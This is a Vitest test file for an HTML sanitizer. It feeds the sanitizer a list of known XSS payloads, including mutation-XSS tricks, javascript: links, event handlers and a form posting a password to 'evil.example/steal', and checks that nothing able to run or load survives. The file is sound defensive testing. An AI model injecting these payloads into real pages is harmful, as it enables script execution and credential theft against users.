// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { sanitizeUnlockedHtml } from './sanitizeUnlockedHtml';

// The end-to-end test proves in Chromium that the hostile site's payloads never run; this checks
// the sanitizer's output shape against known payload families, fast and one by one.

function clean(html: string): HTMLDivElement {
  const box = document.createElement('div');
  box.append(sanitizeUnlockedHtml(html));
  return box;
}

/** Everything in the output that could run code, load a document or send data elsewhere. */
function dangers(box: HTMLElement): string[] {
  const found: string[] = [];
  for (const el of box.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (
      [
        'script',
        'iframe',
        'frame',
        'object',
        'embed',
        'form',
        'input',
        'button',
        'style',
        'link',
        'meta',
        'base',
        'svg',
        'math',
        'template',
        'noscript',
        'textarea',
        'select',
        'video',
        'audio',
        'source',
        'details',
      ].includes(tag)
    )
      found.push(`<${tag}>`);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on') || ['style', 'srcdoc', 'formaction', 'action', 'xlink:href', 'srcset', 'background', 'ping'].includes(name))
        found.push(`${tag}[${name}]`);
      if (['href', 'src'].includes(name) && !/^(?:https?:|mailto:|data:image\/(?:png|gif|jpeg|webp);base64,)/i.test(attr.value))
        found.push(`${tag}[${name}=${attr.value}]`);
    }
  }
  return found;
}

const PAYLOADS: [string, string][] = [
  ['script tag', `<script>window.__ptcXss = true</script><p>x</p>`],
  ['img onerror', `<img src=x onerror="window.__ptcXss = true">`],
  ['svg onload', `<svg onload="window.__ptcXss = true"><circle r=1 /></svg>`],
  ['javascript: link', `<a href="javascript:window.__ptcXss=true">click</a>`],
  ['entity-encoded javascript: link', `<a href="&#106;avascript:alert(1)">click</a>`],
  ['data: html link', `<a href="data:text/html,<script>alert(1)</script>">click</a>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>parent.__ptcXss=true</script>"></iframe>`],
  ['object and embed', `<object data="/evil.swf"></object><embed src="/evil.swf">`],
  ['remote stylesheet', `<link rel="stylesheet" href="/evil.css"><style>@import url(/evil.css); body{background:url(/x)}</style>`],
  ['style attribute', `<p style="background:url(/probe)">styled</p>`],
  [
    'form posting elsewhere',
    `<form action="https://evil.example/steal" method="post"><input name="pw"><button formaction="https://evil.example">Go</button></form>`,
  ],
  ['meta refresh and base', `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">`],
  ['details ontoggle', `<details open ontoggle="window.__ptcXss=true"><summary>s</summary></details>`],
  ['mXSS noscript', `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
  ['mXSS svg/style namespace', `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`],
  ['mXSS math mglyph', `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`],
  ['template', `<template><img src=x onerror=alert(1)></template>`],
  ['video poster handler', `<video poster="javascript:alert(1)" onerror="alert(1)"><source src=x onerror=alert(1)></video>`],
  ['srcset', `<img srcset="https://evil.example/a.png 1x" src="https://ok.example/b.png">`],
  ['area href', `<map><area href="javascript:alert(1)"></map>`],
];

describe('sanitizeUnlockedHtml', () => {
  test.each(PAYLOADS)('%s leaves nothing that can run or load', (_name, html) => {
    expect(dangers(clean(html))).toEqual([]);
  });

  test('a rich post keeps its formatting, links and images', () => {
    const box = clean(`<h2>Notes</h2><p>Hello <strong>holders</strong>, <em>thanks</em>.</p><ul><li>one</li></ul>
      <blockquote>Quote</blockquote><a href="https://example.com/read">read</a><img src="https://example.com/a.png" alt="A">`);
    expect(box.querySelector('h2')?.textContent).toBe('Notes');
    expect(box.querySelector('strong')?.textContent).toBe('holders');
    expect(box.querySelectorAll('li')).toHaveLength(1);
    expect(box.querySelector('blockquote')?.textContent).toBe('Quote');
    expect(box.querySelector('img')?.getAttribute('src')).toBe('https://example.com/a.png');
  });

  test('links open in a new tab without an opener or referrer', () => {
    const link = clean(`<a href="https://example.com" target="_self">x</a>`).querySelector('a')!;
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  test('images over plain http or with script-capable data are dropped to no source', () => {
    const box = clean(`<img src="http://example.com/a.png"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`);
    for (const img of box.querySelectorAll('img')) expect(img.hasAttribute('src')).toBe(false);
  });

  test('text of removed elements stays readable, as text', () => {
    const box = clean(`<form><p>Inside a form</p></form><script>alert(1)</script>`);
    expect(box.textContent).toContain('Inside a form');
    expect(box.textContent).not.toContain('alert');
  });
});
